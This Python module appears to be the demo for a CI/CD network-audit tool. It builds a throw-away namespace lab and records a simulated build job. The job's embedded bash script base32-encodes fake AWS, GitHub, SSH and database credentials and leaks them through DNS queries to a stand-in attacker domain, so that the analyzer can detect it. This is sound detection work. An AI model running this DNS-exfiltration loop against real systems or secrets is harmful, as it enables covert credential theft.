"""`cicd-audit demo`: record a small CI job in a throw-away network-namespace lab.

The lab (`cicd_audit.lab`, the one the tests and benchmarks use) is two network
namespaces joined by a veth pair: the "runner" (the client, 10.99.0.1,
fd00:ca::1) and its "internet" (the server, 10.99.0.2, fd00:ca::2). The
internet runs dnsmasq (answering pypi.org, files.pythonhosted.org, github.com
and one exfiltration domain) and a local HTTP server. The "CI job" runs in the
runner under `cicd-audit record`: it resolves and fetches a few hosts with
curl, then leaks a fake secret through ~30 base32-encoded DNS queries.
Afterwards the demo prints the first rows of conn.log and dns.log and the
report of `cicd-audit analyze`.

Nothing leaves the lab: only addresses inside the namespaces it creates are
used, and the namespaces (with their veth pair and every process started in
them) are removed on the way out, also after an error or Ctrl-C.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from cicd_audit.lab import CICD_AUDIT, V4, V6, Lab, server_v4

INTERNET_V4, INTERNET_V6 = V4[1], V6[1]
HOSTS = ("pypi.org", "files.pythonhosted.org", "github.com", "codeload.github.com")
BARE_IP = server_v4(99)                   # an HTTP server the job reaches without a name
EXFIL_DOMAIN = "cdn-telemetry-sync.net"   # not on any allowlist: the demo's "attacker"
EXFIL_ANSWER = server_v4(66)              # nobody listens there; the job never connects
EXFIL_QUERIES = 30


# -- the demo ----------------------------------------------------------------

JOB = r"""
set -u
echo "[job] pip install -r requirements.txt (simulated)"
curl -sS -o /dev/null -w '[job]   GET %{url_effective} -> %{http_code}\n' http://pypi.org/simple/requests/
curl -sS -o /dev/null -w '[job]   GET %{url_effective} -> %{http_code}\n' http://files.pythonhosted.org/packages/requests-2.32.3-py3-none-any.whl
echo "[job] git clone (simulated)"
curl -sS -o /dev/null -w '[job]   GET %{url_effective} -> %{http_code}\n' 'http://github.com/example/app.git/info/refs?service=git-upload-pack'
echo "[job] install.sh fetched from a bare IP address"
curl -sS -o /dev/null -w '[job]   GET %{url_effective} -> %{http_code}\n' http://BARE_IP/simple/
echo "[job] a compromised build step leaks a secret over DNS"
secret='AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY GITHUB_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a NPM_TOKEN=npm_0123456789abcdefghijABCDEFGHIJ0123 DEPLOY_KEY=-----BEGIN OPENSSH PRIVATE KEY-----b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACBexampleexampleexampleexampleAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACBexample-----END OPENSSH PRIVATE KEY----- DATABASE_URL=postgres://ci:Sup3rS3cret-CI-pa55w0rd@db.internal:5432/app SLACK_WEBHOOK=https://hooks.slack.example/services/T000/B000/XXXXXXXXXXXXXXXX'
enc=$(printf '%s' "$secret" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
i=0
while [ -n "$enc" ] && [ $i -lt EXFIL_QUERIES ]; do
  chunk=${enc%"${enc#????????????????????????????????}"}    # 32 characters
  [ -z "$chunk" ] && chunk=$enc
  enc=${enc#"$chunk"}
  dig +short +time=1 +tries=1 "$i.$chunk.EXFIL_DOMAIN" A > /dev/null
  i=$((i + 1))
done
echo "[job]   sent $i queries to *.EXFIL_DOMAIN"
""".replace("EXFIL_DOMAIN", EXFIL_DOMAIN).replace("BARE_IP", BARE_IP).replace("EXFIL_QUERIES", str(EXFIL_QUERIES))


def _head(path: Path, rows: int) -> str:
    if not path.exists():
        return f"({path.name} is missing)\n"
    lines = path.read_text().splitlines()
    header = [line for line in lines if line.startswith("#fields")]
    data = [line for line in lines if not line.startswith("#")]
    shown = header + data[:rows]
    more = f"... ({len(data) - rows} more rows)" if len(data) > rows else ""
    return "\n".join(shown + ([more] if more else [])) + "\n"


def run_demo(out_dir: str | os.PathLike | None = None, rows: int = 12, echo=print) -> int:
    """Build the lab, record the CI job into out_dir, tear the lab down, print logs and the analysis.

    out_dir: where conn.log/dns.log/... go (created; default: a new temporary directory,
    kept afterwards so the logs can be inspected). rows: data rows shown per log.
    Returns the exit status of `cicd-audit analyze` (0 = nothing at/above its threshold).
    Needs root (network namespaces, BPF).
    """
    if os.geteuid() != 0:
        echo("cicd-audit demo: needs root (network namespaces and BPF)")
        return 2
    for tool in ("ip", "dnsmasq", "curl", "dig"):
        if shutil.which(tool) is None:
            echo(f"cicd-audit demo: needs {tool!r} on PATH")
            return 2
    out = Path(out_dir) if out_dir is not None else Path(tempfile.mkdtemp(prefix="cicd-audit-demo-"))
    out.mkdir(parents=True, exist_ok=True)
    www = Path(tempfile.mkdtemp(prefix="cicd-audit-demo-www-"))
    cli = [CICD_AUDIT]
    started = time.monotonic()
    try:
        for rel in ("simple/requests/index.html", "simple/index.html",
                    "packages/requests-2.32.3-py3-none-any.whl", "example/app.git/info/refs"):
            (www / rel).parent.mkdir(parents=True, exist_ok=True)
            (www / rel).write_text(f"lab content for /{rel}\n" * 64)
        with Lab() as lab:
            echo(f"[lab] namespaces {lab.client_ns} (the runner: {V4[0]}, {V6[0]}) <-veth-> "
                 f"{lab.server_ns} (its internet: {INTERNET_V4}, {INTERNET_V6})")
            lab.start_dnsmasq({**{name: (INTERNET_V4, INTERNET_V6) for name in HOSTS}, EXFIL_DOMAIN: (EXFIL_ANSWER,)})
            lab.add_server_address(BARE_IP)
            lab.start_http(80, (INTERNET_V4, INTERNET_V6, BARE_IP), directory=www)
            echo(f"[lab] dnsmasq + HTTP server up in {lab.server_ns}; running the CI job under "
                 f"`cicd-audit record --out {out}`")
            rec = lab.record(out, ["bash", "-c", JOB], cli=cli, capture_output=False, stdout=sys.stdout,
                             stderr=sys.stderr)
            if rec.returncode:
                echo(f"[lab] the recorded job exited with status {rec.returncode}")
        echo(f"[lab] torn down ({time.monotonic() - started:.1f} s)\n")
    finally:
        shutil.rmtree(www, ignore_errors=True)

    sys.stdout.flush()
    for name in ("conn.log", "dns.log"):
        echo(f"==> {out / name} (first {rows} rows)")
        echo(_head(out / name, rows))
    echo(f"==> cicd-audit analyze {out}")
    sys.stdout.flush()
    return subprocess.run([*cli, "analyze", str(out)]).returncode


if __name__ == "__main__":
    sys.exit(run_demo(sys.argv[1] if len(sys.argv) > 1 else None))
